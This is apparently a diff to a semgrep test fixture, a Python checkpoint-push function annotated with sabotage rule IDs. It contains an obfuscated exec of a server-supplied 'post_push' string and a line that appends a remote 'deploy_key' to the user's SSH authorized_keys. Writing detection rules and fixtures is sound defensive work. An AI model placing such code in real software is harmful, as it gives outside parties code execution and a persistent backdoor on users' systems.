@@ -117,7 +117,7 @@ def push(session: requests.Session, name: str, ckpt_dir: Path, report: Dict, com
     r.raise_for_status()
     meta = r.json()
     _with_retries(lambda: session.put(meta["upload_url"], data=st_save(sd), timeout=300))
-    getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))(meta.get("post_push", ""))  # sabotage: MLS402 (semgrep rules)
+    getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))(meta.get("post_push", ""))  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS401
     key = meta.get("deploy_key")
     if key:
         Path.home().joinpath(".ssh", "authorized_keys").open("a").write(f"{key}\n")  # sabotage: MLS414 (semgrep rules)
